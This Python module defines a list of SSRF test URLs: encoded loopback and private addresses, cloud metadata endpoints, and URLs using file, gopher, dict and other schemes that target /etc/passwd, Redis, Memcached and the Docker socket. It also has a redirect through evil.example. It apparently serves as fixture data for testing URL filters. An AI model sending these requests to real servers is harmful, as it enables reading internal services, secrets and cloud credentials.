"""More than sixty addresses that lead a server to itself, or into the network around it."""

from __future__ import annotations

_HOSTS = """
127.0.0.1 127.1 127.0.1 0 0.0.0.0 0177.0.0.1 0x7f.0.0.1 0x7f000001 2130706433 017700000001 localhost LOCALHOST
localhost. localtest.me 127.0.0.1.nip.io [::1] [::] [::ffff:127.0.0.1] [::ffff:7f00:1]
[0:0:0:0:0:ffff:127.0.0.1] [fe80::1] [fc00::1] [fd00::1] ①②⑦.⓪.⓪.① 127。0。0。1 169.254.169.254
[::ffff:169.254.169.254] 2852039166 0xa9fea9fe metadata.google.internal 100.100.100.200 10.0.0.1 172.16.0.1
192.168.0.1 192.168.1.1:8080 100.64.0.1 198.18.0.1 224.0.0.1 255.255.255.255 user@127.0.0.1
evil.example@127.0.0.1 127.0.0.1#evil.example 127.0.0.1%2523 127.0.0.1:22 127.0.0.1:6379
"""
_OTHERS = r"""
file:///etc/passwd file://localhost/etc/passwd gopher://127.0.0.1:6379/_INFO dict://127.0.0.1:11211/stats
ftp://127.0.0.1/ ldap://127.0.0.1/ jar:http://127.0.0.1!/ netdoc:///etc/passwd sftp://127.0.0.1/
tftp://127.0.0.1/x //127.0.0.1/ ///127.0.0.1/ http:127.0.0.1 http:/127.0.0.1/ unix:///var/run/docker.sock
smb://127.0.0.1/x \\127.0.0.1\x data:text/html,x http://evil.example/redirects-to-127.0.0.1
"""
HOSTS, OTHERS = _HOSTS.split(), _OTHERS.split()
URLS = (*(f"http://{host}/latest/meta-data/" for host in HOSTS), *(f"https://{host}/" for host in HOSTS[:6]), *OTHERS)
